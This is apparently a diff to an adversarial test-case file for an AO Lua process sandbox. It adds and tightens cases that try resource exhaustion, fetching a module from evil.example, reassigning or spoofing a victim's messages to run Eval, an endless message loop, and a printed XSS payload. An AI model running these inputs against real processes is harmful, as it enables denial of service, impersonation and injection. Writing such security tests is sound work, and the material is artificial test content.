@@ -26,25 +26,25 @@ ao.send({ Target = ao.id, Action = "Double" }) print("set")
 Handlers.add("Spawned", "Spawned", function(msg) for _ = 1, 3 do Spawn({ Data = "x" }) end end)
 for _ = 1, 3 do Spawn({ Data = "x" }) end print("set")
 --- a thousand processes at once
--- expect anything
+-- expect spawns: ^1000$
 for _ = 1, 1000 do Spawn({ ["On-Boot"] = "Data", Data = "for _ = 1, 1000 do end" }) end
 --- a process with more memory than there is
--- expect anything
+-- expect spawns: ^1$
 Spawn({ ["Memory-Limit"] = "999999-gb", ["Compute-Limit"] = "999999999999999999" })
 --- a process whose clock ticks a billion times a second
--- expect anything
+-- expect spawns: ^1$
 Spawn({ ["Cron-Interval"] = "1-millisecond", ["Cron-Tag-Action"] = "Tick" })
 --- a process of a module that is none
--- expect anything
+-- expect spawns: ^1$
 Spawn("https://evil.example/module.wasm", { Data = "x" })
 --- an assignment of messages that are not its own
--- expect anything
+-- expect assignments: ^1$
 Assign({ Processes = { "{victim}", "{victim}", "nobody" }, Message = "{victim}" })
 --- an assignment of nothing to everybody
--- expect anything
+-- expect assignments: ^1$
 local all = {} for i = 1, 10000 do all[i] = "{victim}" end Assign({ Processes = all, Message = ("A"):rep(43) })
 --- the same message assigned by its tag
--- expect anything
+-- expect message: Assignments=
 ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", Assignments = { "{victim}" } })
 --- its own id and owner, rewritten, deceive nobody
 -- after anything
@@ -54,3 +54,19 @@ ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'" })
 --- a text for whoever shows it as markup
 -- expect output: <script>
 print("<script>document.title = 'owned'</script><img src=x onerror=\"document.title='owned'\">")
+--- what its owner evaluated elsewhere, assigned to another
+-- expect assignments: ^1$
+Assign({ Processes = { "{victim}" }, Message = "{evaluation}" })
+--- the same, without what says whose it is
+-- expect assignments: ^1$
+ao.assign({ Processes = { "{victim}" }, Message = "{evaluation}", Exclude = { "Owner", "From", "Target", "Tags" } })
+--- the same, by a message with its id in the tags
+-- expect message: Type=Assignment
+ao.send({ Target = "{victim}", Type = "Assignment", Assign = "{evaluation}", Message = "{evaluation}", Process = "{victim}", Nonce = "0", Epoch = "0" })
+--- questions to another, for ever
+-- expect output: set
+Handlers.prepend("Again", function(msg) return msg.Data == "safe" end, function() ao.send({ Target = "{victim}", Action = "Ask" }) end)
+ao.send({ Target = "{victim}", Action = "Ask" }) print("set")
+--- a spawned process that does what its maker may not
+-- expect spawns: ^1$
+Spawn({ ["On-Boot"] = "Data", Data = [[ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", Owner = "owner", ["From-Process"] = "{victim}" })]] })
